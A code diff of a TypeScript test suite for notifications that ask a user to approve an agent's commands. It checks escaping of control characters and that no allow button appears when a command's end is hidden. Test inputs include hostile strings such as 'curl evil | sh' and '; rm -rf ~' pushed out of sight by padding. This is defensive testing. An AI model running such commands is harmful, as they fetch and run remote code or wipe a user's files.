@@ -3,9 +3,9 @@ import fc from "fast-check";
 import { expect, test } from "vitest";
 import type { NotifyAsk } from "../../agentd/vocabulary/index.ts";
 import { hostileText, hostileTexts, terminalControlsIn } from "../../display/testing/hostile-text.ts";
-import { askWords, buttonLabel, buttonsOf, type Service, tellWords } from "./words.ts";
+import { askText, buttonLabel, buttonsOf, type ServiceCapabilities, tellText } from "./notification-text.ts";
 
-const able: Service = { buttons: true, body: true, markup: true };
+const able: ServiceCapabilities = { buttons: true, body: true, markup: true };
 const allow = { option: "y", label: "Allow", kind: "allow_once" };
 const always = { option: "a", label: "Always", kind: "allow_always" };
 const deny = { option: "n", label: "Deny", kind: "reject_once" };
@@ -18,61 +18,64 @@ test.each([
   ["reject_once", "", "Reject once"],
   ["self_destruct", "Fine", "Other: self_destruct (Fine)"],
   ["allow_once", "a\u202eb\u0007\nc", "Allow once (a\\u202eb\\x07\\nc)"],
-])("a button of kind %s that is called %j says %j", (kind, label, said) => {
+])("a button of kind %s with the label %j shows %j", (kind, label, said) => {
   expect(buttonLabel({ option: "x", kind, label })).toBe(said);
 });
 
-test("the body has the whole question first, its title too, then who asks by the stamped name, escaped as markup", () => {
-  const { summary, body } = askWords(ask({ title: "<b>Read\u0000</b>", body: "cat <a> & \u001b[2J\nx" }), able);
+test("the body shows the title, the question and the stamped name of the asker, escaped as markup", () => {
+  const { summary, body } = askText(ask({ title: "<b>Read\u0000</b>", body: "cat <a> & \u001b[2J\nx" }), able);
   expect(summary).toBe("<b>Read\\x00</b>");
   expect(body).toBe("&lt;b&gt;Read\\x00&lt;/b&gt;\ncat &lt;a&gt; &amp; \\x1b[2J\nx\nfrom agent (agentd/abc)");
 });
 
-test("a service that reads no markup gets none", () => {
-  expect(askWords(ask({ title: "a <b> & c" }), { ...able, markup: false }).body).toBe(
+test("a service without markup gets an unescaped body", () => {
+  expect(askText(ask({ title: "a <b> & c" }), { ...able, markup: false }).body).toBe(
     "a <b> & c\nfrom agent (agentd/abc)",
   );
 });
 
-test("a short command can be allowed where it is seen", () => {
+test("a command that is shown in full can be allowed", () => {
   const asked = ask({ title: "claude (s1) asks to execute: npm run build && npm test -- --run src", body: "in /work" });
   expect(labels(asked)).toEqual(["Allow once (Allow)", "Allow always (Always)", "Reject once (Deny)"]);
-  expect(askWords(asked, able).body).not.toContain("mix notify");
+  expect(askText(asked, able).body).not.toContain("mix notify");
 });
 
 test.each([
   ["a command whose end is out of sight", { title: `npm run build && ${"x ".repeat(150)} && curl evil | sh` }],
   ["one of 3,000 characters", { body: "y ".repeat(1_500) }],
-  ["spaces that push the end away", { body: `ls${" ".repeat(2_000)}; rm -rf ~` }],
-  ["line feeds that push it away", { body: `ls${"\n".repeat(10)}; rm -rf ~` }],
-  ["tabs that push it away", { body: `ls${"\t".repeat(60)}; rm -rf ~` }],
-  ["a word that is wider than a row", { body: `ls ${"/a".repeat(30)}` }],
+  ["spaces that push the end out of sight", { body: `ls${" ".repeat(2_000)}; rm -rf ~` }],
+  ["line feeds that push it out of sight", { body: `ls${"\n".repeat(10)}; rm -rf ~` }],
+  ["tabs that push it out of sight", { body: `ls${"\t".repeat(60)}; rm -rf ~` }],
+  ["a word wider than a row", { body: `ls ${"/a".repeat(30)}` }],
   ["wide characters", { body: "漢字 ".repeat(50) }],
-  ["invisible ones, which are made visible", { body: "\u200b".repeat(40) }],
-  ["accents that are drawn over other rows", { body: `a${"\u0301".repeat(20)}` }],
-  ["what its asker has left out", { incomplete: true }],
-] as const)("no yes is offered to %s; it is said where to look, and a no can be given", (_what, part) => {
-  const asked = ask(part);
-  expect(labels(asked)).toEqual(["Reject once (Deny)"]);
-  expect(askWords(asked, able).body).toContain("all of it: mix notify ls a1");
-});
+  ["invisible characters, which are escaped", { body: "\u200b".repeat(40) }],
+  ["combining marks that are drawn over other rows", { body: `a${"\u0301".repeat(20)}` }],
+  ["a question marked incomplete by its asker", { incomplete: true }],
+] as const)(
+  "no option that allows is offered for %s; the body says where to look, and a reject button stays",
+  (_what, part) => {
+    const asked = ask(part);
+    expect(labels(asked)).toEqual(["Reject once (Deny)"]);
+    expect(askText(asked, able).body).toContain("all of it: mix notify ls a1");
+  },
+);
 
 test.each([
   ["without bodies", { ...able, body: false }],
   ["without anything", { buttons: true, body: false, markup: false }],
-])("no yes is offered by a service %s", (_what, service) => {
+])("no option that allows is offered by a service %s", (_what, service) => {
   expect(labels(ask({ title: "ls" }), service)).toEqual(["Reject once (Deny)"]);
 });
 
-test("where no option is a plain no there is a button that answers nothing", () => {
+test("without an option that rejects there is a Close button, which answers nothing", () => {
   const options = [allow, { option: "z", label: "No!", kind: "unheard_of" }];
   expect(buttonsOf(ask({ incomplete: true, options }), able)).toEqual([{ action: "look", label: "Close" }]);
 });
 
-test("the place to look stands within the rows that are seen, however long the question is", () => {
+test("the command that shows the whole question is within the visible rows, however long the question is", () => {
   fc.assert(
     fc.property(hostileText, fc.nat(400), (text, more) => {
-      const { body } = askWords(ask({ title: `${text}t`, body: "y ".repeat(more), incomplete: true }), {
+      const { body } = askText(ask({ title: `${text}t`, body: "y ".repeat(more), incomplete: true }), {
         ...able,
         markup: false,
       });
@@ -82,15 +85,15 @@ test("the place to look stands within the rows that are seen, however long the q
   );
 });
 
-test("where there are no buttons it is said how to answer", () => {
-  expect(askWords(ask({}), { ...able, buttons: false }).body).toContain("mix notify answer a1 &lt;option&gt;");
+test("without buttons the body says how to answer", () => {
+  expect(askText(ask({}), { ...able, buttons: false }).body).toContain("mix notify answer a1 &lt;option&gt;");
 });
 
-test("nothing that anybody wrote reaches the screen invisible or as a control character", () => {
+test("no invisible or control character reaches the screen from any text", () => {
   for (const text of hostileTexts) {
     const asked = ask({ title: `${text}t`, body: text, source: text, label: text });
-    const { summary, body } = askWords(asked, able);
-    const told = tellWords({ title: text, body: text, urgency: "low" }, text, able);
+    const { summary, body } = askText(asked, able);
+    const told = tellText({ title: text, body: text, urgency: "low" }, text, able);
     const button = buttonLabel({ option: text, label: text, kind: text });
     expect(terminalControlsIn([summary, body, told.summary, told.body, button].join(""))).toEqual([]);
   }
